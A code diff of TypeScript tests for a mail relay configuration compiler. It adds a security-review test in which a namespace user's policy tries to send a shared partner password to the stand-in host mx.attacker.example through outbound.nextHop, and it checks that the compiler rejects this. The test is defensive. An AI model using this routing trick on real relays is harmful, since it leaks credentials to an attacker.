@@ -71,7 +71,13 @@ describe("compile", () => {
       clusterView({
         secrets: { "partner-login": ["password"] },
         configMaps: { "partner-ca": ["ca.crt"] },
-        credentials: [login],
+        // the policy sets its own nextHop: the password goes there only if restrictTo.nextHops lists it
+        credentials: [
+          cred("partner-login", {
+            ...login.spec,
+            restrictTo: { ...login.spec.restrictTo, nextHops: ["smtp.partner.example"] },
+          }),
+        ],
       }),
     );
     assert.deepEqual(r.included, ["mail/partner-lab"]);
@@ -382,6 +388,37 @@ describe("compile", () => {
       "mail/all",
       "mail/lower",
     ]);
+  });
+
+  it("a password restricted by domains only never goes to a policy's own nextHop (security review)", () => {
+    // the attack: the credential covers *.partner.example; a namespace user writes a policy for the
+    // unclaimed new.partner.example with outbound.nextHop at their own server and the credential
+    const v = clusterView({ secrets: { "partner-login": ["password"] }, credentials: [login] });
+    const evil = policy("evil", {
+      domains: ["new.partner.example"],
+      outbound: {
+        tls: { mode: "verify", trustSystemRoots: true },
+        auth: { credentialRef: { name: "partner-login" } },
+        nextHop: { host: "mx.attacker.example", port: 25 },
+      },
+    });
+    const mx = policy("mx", {
+      domains: ["partner.example"],
+      outbound: {
+        tls: { mode: "verify", trustSystemRoots: true },
+        auth: { credentialRef: { name: "partner-login" } },
+      },
+    });
+    const r = compileRelayConfig(relay(), [evil, mx], v);
+    assert.deepEqual(r.included, ["mail/mx"], "without a nextHop it still goes to the domain's MX hosts");
+    const [problem] = r.problems.get("mail/evil")!;
+    assert.equal(problem!.reason, "InvalidReference");
+    assert.match(problem!.message, /sets outbound\.nextHop mx\.attacker\.example/);
+    assert.match(problem!.message, /add mx\.attacker\.example to the RelayCredential's restrictTo\.nextHops/);
+    assert.equal(
+      r.config.policies.find((p) => p.name === "mail/evil"),
+      undefined,
+    );
   });
 
   it("a password credential without restrictTo is sent nowhere (attack review 3c)", () => {
